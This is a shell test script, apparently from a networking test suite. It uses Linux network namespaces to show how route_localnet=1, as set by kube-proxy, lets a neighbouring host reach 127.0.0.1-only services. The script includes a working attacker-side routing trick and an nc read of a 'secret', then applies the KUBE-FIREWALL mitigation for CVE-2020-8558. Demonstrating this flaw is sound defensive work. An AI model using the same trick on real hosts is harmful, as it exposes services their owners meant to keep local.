# GOTCHAS 41: route_localnet=1 (set by kube-proxy for node ports on localhost) lets neighbours reach services that listen on 127.0.0.1 only.
# With 0 their packets are martians; with 1 only a firewall rule keeps them out.
# expect: status 0
# expect: output ^closed: 124
# expect: output ^open: 0 secret
# expect: output ^firewalled: 124
# expect: victim.eth0 rx ip 10.0.0.66>127.0.0.1 .*tcp .*S seq 0
# expect: victim.eth0 tx ip 127.0.0.1>10.0.0.66 .*tcp 8080>
# expect: attacker.eth0 rx tcp 8080>p.* data 7 = 1
# gotcha: 41
# needs: nc
set -u
for n in victim attacker; do ip netns add $n; ip -n $n link set lo up; done
ip link add eth0 netns victim type veth peer name eth0 netns attacker
ip -n victim addr add 10.0.0.1/24 dev eth0
ip -n attacker addr add 10.0.0.66/24 dev eth0
ip -n victim link set eth0 up
ip -n attacker link set eth0 up

# the attacker sends 127.0.0.1 out to its neighbour instead of to itself
ip netns exec attacker sysctl -qw net.ipv4.conf.all.route_localnet=1
ip -n attacker addr del 127.0.0.1/8 dev lo
ip -n attacker route add 127.0.0.1 via 10.0.0.1 src 10.0.0.66

serve() { (echo secret; sleep 0.3) | ip netns exec victim nc -l -N 127.0.0.1 8080 >/dev/null & sleep 0.3; }
attack() {
    local answer
    answer=$(ip netns exec attacker timeout 0.6 nc 127.0.0.1 8080 </dev/null)
    echo "$1: $? $answer"
}
serve
attack closed
ip netns exec victim sysctl -w net.ipv4.conf.eth0.route_localnet=1
attack open
wait
serve
# what the kubelet has had since CVE-2020-8558 (KUBE-FIREWALL)
ip netns exec victim iptables -A INPUT -d 127.0.0.0/8 ! -s 127.0.0.0/8 -m conntrack ! --ctstate RELATED,ESTABLISHED,DNAT -j DROP
attack firewalled
ip netns exec victim iptables -vnL INPUT
exit 0
